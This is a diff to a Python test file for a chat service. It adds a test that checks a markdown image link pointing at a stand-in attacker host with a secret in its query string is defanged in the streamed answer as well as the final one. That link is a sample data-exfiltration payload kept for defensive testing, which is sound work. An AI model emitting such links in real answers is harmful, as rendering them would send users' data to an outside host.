@@ -1,7 +1,13 @@
 """A chat without any model: the local planner calls, with what earlier calls returned, and says what came of it."""
 
+import asyncio
 from pathlib import Path
+from typing import Any
 
+import pytest
+
+from relay.chat.identity import hash_of
+from relay.chat.journal import Journal
 from relay.chat.views import Said
 from relay.core.effect import EffectRefused
 from relay.store.target import Target
@@ -60,3 +66,25 @@ async def test_a_failure_ends_the_local_plan(target: Target, tmp_path: Path) -> 
         view = await world.rest((await world.chat.send(await world.key(), said)).turn_id)
         assert view.status == "done"
         assert not any(made.action == "relay.echo" and made.status == "succeeded" for made in view.calls)
+
+
+async def test_links_do_not_leave_by_the_running_answer_either(
+    sqlite_target: Target, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    async with open_chat(sqlite_target, tmp_path / "data") as world:
+        owner = await world.key()
+        shown, go_on, answered = asyncio.Event(), asyncio.Event(), Journal.answered
+
+        async def slow(journal: Journal, *what: Any) -> Any:
+            shown.set()
+            await go_on.wait()
+            return await answered(journal, *what)
+
+        monkeypatch.setattr(Journal, "answered", slow)
+        handle = await world.send(owner, 'Gibber about "![x](https://evil.example/?q=secret)"')
+        await shown.wait()
+        running = world.chat._runner.running(hash_of(handle.session_id) or "")
+        go_on.set()
+        view = await world.rest(handle.turn_id)
+        assert running is not None and "evil[.]example" in running.text
+        assert running.text == view.message
